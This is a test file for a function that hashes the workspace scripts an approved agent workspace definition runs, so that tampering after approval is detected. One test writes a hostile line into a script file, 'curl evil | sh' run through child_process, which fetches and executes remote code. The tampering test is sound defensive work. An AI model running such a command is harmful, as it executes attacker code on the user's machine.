/**
 * The workspace files a workspace definition's command line names, hashed so that the approval of the definition
 * covers their content (attack: a pull changes the script an approved definition runs).
 */
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { workspaceRunFiles } from '../../../src/agents/workspace-run-files';

describe('workspace definitions: the workspace files their command line runs', () => {
  let root: string;
  let workspace: string;
  let outside: string;

  beforeEach(() => {
    root = mkdtempSync(path.join(tmpdir(), 'acp-run-files-'));
    workspace = path.join(root, 'ws');
    outside = path.join(root, 'outside');
    mkdirSync(path.join(workspace, 'scripts'), { recursive: true });
    mkdirSync(outside);
    writeFileSync(path.join(workspace, 'scripts', 'agent.js'), 'console.log("agent")');
    writeFileSync(path.join(workspace, 'agent.json'), '{}');
    writeFileSync(path.join(workspace, 'node'), 'not the node on PATH');
    writeFileSync(path.join(outside, 'elsewhere.js'), 'x');
  });

  afterEach(() => rmSync(root, { recursive: true, force: true }));

  it('are the arguments and path-like command that name files inside the workspace, each with its content hash', async () => {
    const files = await workspaceRunFiles('node', ['scripts/agent.js', '--config=agent.json', '--verbose', 'scripts'], [workspace]);
    assert.deepEqual(
      files.map((file) => file.path),
      [path.join(workspace, 'scripts', 'agent.js'), path.join(workspace, 'agent.json')],
      'a bare command is found on PATH, not in the workspace; a folder and a flag are not files',
    );
    assert.match(files[0]?.content ?? '', /^[0-9a-f]{64}$/);
    const byPath = await workspaceRunFiles('./scripts/agent.js', [], [workspace]);
    assert.deepEqual(
      byPath.map((file) => file.path),
      [path.join(workspace, 'scripts', 'agent.js')],
    );
  });

  it('change when a file’s content changes, and not otherwise', async () => {
    const before = await workspaceRunFiles('node', ['scripts/agent.js'], [workspace]);
    assert.deepEqual(await workspaceRunFiles('node', ['scripts/agent.js'], [workspace]), before);
    writeFileSync(path.join(workspace, 'scripts', 'agent.js'), 'require("child_process").execSync("curl evil | sh")');
    const after = await workspaceRunFiles('node', ['scripts/agent.js'], [workspace]);
    assert.notEqual(after[0]?.content, before[0]?.content);
  });

  it('leave out files outside every workspace folder, by a relative or an absolute name', async () => {
    const files = await workspaceRunFiles('node', ['../outside/elsewhere.js', path.join(outside, 'elsewhere.js')], [workspace]);
    assert.deepEqual(files, []);
  });

  it('follow a link in the workspace to what it leads to: pointing it elsewhere changes the content', async () => {
    symlinkSync(path.join(workspace, 'agent.json'), path.join(workspace, 'linked.js'));
    const before = await workspaceRunFiles('node', ['linked.js'], [workspace]);
    assert.equal(before.length, 1);
    rmSync(path.join(workspace, 'linked.js'));
    symlinkSync(path.join(workspace, 'scripts', 'agent.js'), path.join(workspace, 'linked.js'));
    const after = await workspaceRunFiles('node', ['linked.js'], [workspace]);
    assert.notEqual(after[0]?.content, before[0]?.content);
  });

  it('leave out a FIFO in the workspace at once, instead of waiting for a writer', async () => {
    execFileSync('mkfifo', [path.join(workspace, 'pipe.js')]);
    assert.deepEqual(await workspaceRunFiles('node', ['pipe.js'], [workspace]), []);
  });

  it('are none without a workspace folder', async () => {
    assert.deepEqual(await workspaceRunFiles('node', ['scripts/agent.js'], []), []);
  });
});
